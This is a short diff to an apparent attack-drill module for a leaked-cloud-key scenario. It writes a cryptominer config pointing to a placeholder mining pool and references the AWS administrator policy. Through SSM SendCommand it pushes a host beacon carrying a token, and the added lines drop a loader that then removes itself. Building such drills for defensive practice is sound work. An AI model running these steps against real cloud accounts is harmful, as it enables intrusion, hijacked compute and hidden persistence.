@@ -16,7 +16,15 @@ from typing import Any
 
 from amberlight.lab.places import Place
 from amberlight.practice.actors import Actor
-from amberlight.practice.drills.leaked_key.scene import BEACON_PATH, LISTENER_PORT, Scene, Secrets, on_host
+from amberlight.practice.drills.leaked_key.scene import (
+    BEACON_PATH,
+    LISTENER_PORT,
+    LOADER_PATH,
+    Scene,
+    Secrets,
+    and_gone,
+    on_host,
+)
 
 MINER_SCRIPT = "#!/bin/sh\necho pool=stratum.example:3333 > ${HOST_ROOT}/etc/miner.conf\n"
 ADMINISTRATOR = "arn:aws:iam::aws:policy/AdministratorAccess"
@@ -135,6 +143,7 @@ class Attack:
             "token": self.secrets.token,
         }
         script = on_host("host_beacon", BEACON_PATH, json.dumps(settings))
+        script += and_gone(LOADER_PATH, self.secrets.loader)
         owner.call(
             "ssm.SendCommand",
             InstanceIds=[self.scene.web_instance],
